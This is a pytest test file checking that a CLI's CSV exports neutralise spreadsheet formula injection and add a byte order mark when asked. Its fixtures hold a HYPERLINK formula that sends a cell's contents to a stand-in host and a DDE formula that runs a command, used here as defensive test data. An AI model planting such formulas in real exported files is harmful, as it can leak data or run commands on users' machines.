"""CSV outputs are safe to open in a spreadsheet (OWASP CSV injection), and --excel-csv adds a BOM.

A text cell beginning with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is written
with a single quote in front; numbers are written as numbers.
"""

import csv
import io

import pandas as pd
import pytest

from eduequity.cli import main
from eduequity.datasets import demo_path
from eduequity.report._csv import to_csv

HYPERLINK = '=HYPERLINK("http://x"&A1,"点击查看")'
COMMAND = "+cmd|' /C calc'!A0"


@pytest.fixture(scope="module")
def schools(tmp_path_factory):
    """The demo county renamed to a formula, one school renamed to a command (DDE) formula."""
    frame = pd.read_csv(demo_path("demo_county_schools.csv"), dtype=str, keep_default_na=False)
    frame["county"] = HYPERLINK
    frame.loc[frame["school_id"] == "0990010002", "school_name"] = COMMAND
    path = tmp_path_factory.mktemp("injection") / "schools.csv"
    frame.to_csv(path, index=False)
    return str(path)


def _rows(text):
    return list(csv.DictReader(io.StringIO(text)))


def test_counties_csv_neutralises_a_formula_county_name(capsys, schools):
    assert main(["counties", schools, "--format", "csv"]) == 0
    out = capsys.readouterr().out
    rows = _rows(out)
    assert {row["county"] for row in rows} == {"'" + HYPERLINK}
    assert not out.startswith("\ufeff")
    # Numbers stay numbers: the CVs and counts are not quoted.
    assert all(not row["n_sections"].startswith("'") for row in rows)
    assert float(rows[0]["cv_sports_area_per_student"]) > 0


def test_plan_csv_neutralises_county_and_school_names(capsys, schools):
    assert main(["plan", schools, "--format", "csv"]) == 0
    rows = _rows(capsys.readouterr().out)
    assert rows
    assert {row["county"] for row in rows} == {"'" + HYPERLINK}
    named = [row for row in rows if row["school_id"] == "0990010002"]
    assert named
    assert {row["school_name"] for row in named} == {"'" + COMMAND}
    assert all(float(row["amount"]) >= 0 for row in rows)


def test_every_formula_start_is_neutralised_and_numbers_are_kept():
    frame = pd.DataFrame(
        {
            "text": ["=1+1", "+1", "-x", "@SUM(A1)", "\tq", "ok", " =spaced", None],
            "number": [-1.5, 2.0, -3.0, 4.0, 5.0, 6.0, 7.0, 8.0],
            "category": pd.Categorical(["-c", "d", "e", "f", "g", "h", "i", "j"]),
        }
    )
    rows = list(csv.reader(io.StringIO(to_csv(frame), newline="")))[1:]
    assert [row[0] for row in rows] == [
        "'=1+1",
        "'+1",
        "'-x",
        "'@SUM(A1)",
        "'\tq",
        "ok",
        " =spaced",
        "",
    ]
    assert [row[1] for row in rows[:3]] == ["-1.5", "2.0", "-3.0"]
    assert rows[0][2] == "'-c"
    assert to_csv(pd.DataFrame({"text": ["\rq"]})) == "text\n'\rq\n"
    # The frame itself is left unchanged.
    assert frame["text"].iloc[0] == "=1+1"


def test_excel_csv_writes_a_byte_order_mark(capsys, tmp_path, schools):
    assert main(["counties", schools, "--excel-csv"]) == 0
    out = capsys.readouterr().out
    assert out.startswith("\ufeffcounty,")
    target = tmp_path / "counties.csv"
    assert main(["counties", schools, "--excel-csv", "--output", str(target)]) == 0
    data = target.read_bytes()
    assert data.startswith(b"\xef\xbb\xbfcounty,")
    plain = tmp_path / "plain.csv"
    assert main(["counties", schools, "--output", str(plain)]) == 0
    assert plain.read_bytes().startswith(b"county,")
    plan = tmp_path / "plan.csv"
    assert main(["plan", schools, "--excel-csv", "--output", str(plan)]) == 0
    assert plan.read_bytes().startswith(b"\xef\xbb\xbf")


def test_excel_csv_with_another_format_is_a_usage_error(capsys, schools):
    assert main(["counties", schools, "--excel-csv", "--format", "json"]) == 2
    assert "--excel-csv writes CSV" in capsys.readouterr().err
